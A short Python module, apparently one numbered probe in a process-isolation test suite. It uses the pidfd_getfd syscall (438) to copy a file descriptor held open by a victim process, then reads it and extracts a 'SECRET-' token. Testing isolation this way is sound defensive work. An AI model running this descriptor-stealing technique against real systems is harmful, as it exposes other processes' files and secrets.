"""Takes a copy of what another process has open.

number = 9
shows = "seen"
"""

import os

from .calling import done, libc
from .world import HELD, VICTIM


def attempt():
    taken = done(libc.syscall(438, os.pidfd_open(VICTIM), HELD, 0))
    found = os.pread(taken, 1 << 16, 0)
    return found[found.index(b"SEC" + b"RET-") :][:23].decode()
